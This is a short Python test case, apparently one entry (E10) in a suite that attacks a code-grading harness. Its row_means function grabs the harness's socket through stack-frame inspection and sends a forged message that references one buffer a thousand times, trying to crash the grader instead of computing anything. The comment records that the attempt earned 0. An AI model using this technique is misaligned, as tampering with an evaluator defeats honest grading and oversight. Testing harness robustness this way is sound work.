# E10: forges a list that refers to one buffer a thousand times -> row_means crashed, Counter missing; earns 0
import struct
import sys
import time

import msgpack


def row_means(x):
    frame = sys._getframe()
    while "channel" not in frame.f_locals:
        frame = frame.f_back
    body = msgpack.packb(["d", "value", ["l", *[["a", "f8", [1000], 0]] * 1000]])
    channel = frame.f_locals["channel"]._sock
    channel.setblocking(True)
    channel.sendall(struct.pack("!IIQ", len(body), 1, 8000) + body + bytes(8000))
    time.sleep(100)
